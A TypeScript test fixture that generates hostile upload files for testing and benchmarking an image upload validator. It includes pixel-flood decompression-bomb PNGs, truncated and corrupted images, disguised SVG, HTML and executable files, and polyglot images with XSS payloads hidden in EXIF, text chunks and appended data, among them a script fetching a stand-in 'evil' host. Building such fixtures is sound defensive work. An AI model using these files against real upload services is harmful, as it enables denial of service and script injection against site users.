/** Files that mean harm, for tests and for the benchmark of uploads. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

function chunk(type: string, body: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), body]);
  const out = Buffer.alloc(8 + named.length);
  out.writeUInt32BE(body.length, 0);
  named.copy(out, 4);
  out.writeUInt32BE(crc32(named), 4 + named.length);
  return out;
}
const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
function header(width: number, height: number, depth: number, colour: number): Buffer {
  const body = Buffer.alloc(13);
  body.writeUInt32BE(width, 0);
  body.writeUInt32BE(height, 4);
  body[8] = depth;
  body[9] = colour;
  return chunk('IHDR', body);
}
/** A PNG of this size whose pixels are all nothing, packed as small as they get. */
function flood(width: number, height: number, depth = 1): Buffer {
  const row = 1 + Math.ceil((width * depth) / 8);
  const packed = deflateSync(Buffer.alloc(Math.min(row * height, 120_000_000)), { level: 9 });
  return Buffer.concat([signature, header(width, height, depth, 0), chunk('IDAT', packed), chunk('IEND', Buffer.alloc(0))]);
}

export const script = '<script>fetch("//evil")</script>';

/** What must be refused, by what it is. */
export async function hostileFiles(): Promise<Record<string, Buffer>> {
  const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#a33' } })
    .png()
    .toBuffer();
  const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#a33' } })
    .jpeg()
    .toBuffer();
  const broken = Buffer.from(png);
  broken.set([0xff, 0xff, 0xff], broken.length - 24);
  return {
    'SVG named png': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
    'HTML named png': Buffer.from(`<!doctype html><title>x</title>${script}${' '.repeat(100)}`),
    GIF: Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
    PDF: Buffer.from(`%PDF-1.7\n${' '.repeat(100)}`),
    EXE: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
    'pixel flood of 30,000 × 30,000': flood(30_000, 30_000),
    'a line of a million pixels': flood(1_000_000, 100),
    'forty megapixels promised, nothing there': Buffer.concat([
      signature,
      header(6300, 6300, 8, 6),
      chunk('IDAT', deflateSync(Buffer.alloc(1000))),
      chunk('IEND', Buffer.alloc(0)),
    ]),
    'cut in half': png.subarray(0, png.length / 2),
    'a JPEG cut in half': jpeg.subarray(0, jpeg.length / 2),
    'no end': png.subarray(0, png.length - 12),
    'broken checksum and data': broken,
    'a thousand passes': Buffer.concat([
      jpeg.subarray(0, -2),
      ...Array.from({ length: 1000 }, () => Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 0])),
      jpeg.subarray(-2),
    ]),
    empty: Buffer.alloc(0),
  };
}

/** What is a picture and carries something else: the picture is taken, the rest is not. */
export async function polyglots(): Promise<Record<string, Buffer>> {
  const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#3a3' } })
    .png()
    .toBuffer();
  const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#3a3' } })
    .withExif({ IFD0: { ImageDescription: `"><img src=x onerror=alert(1)>${script}` } })
    .jpeg()
    .toBuffer();
  const text = chunk('iTXt', Buffer.concat([Buffer.from('Comment\0\0\0\0\0'), Buffer.from(script)]));
  return {
    'PNG and HTML': Buffer.concat([png, Buffer.from(script)]),
    'JPEG and HTML': Buffer.concat([jpeg, Buffer.from(script)]),
    'a script in a text entry': Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]),
    'a script in the camera data': jpeg,
    'PNG and ZIP': Buffer.concat([png, Buffer.from('PK\x03\x04'), Buffer.from(script)]),
  };
}
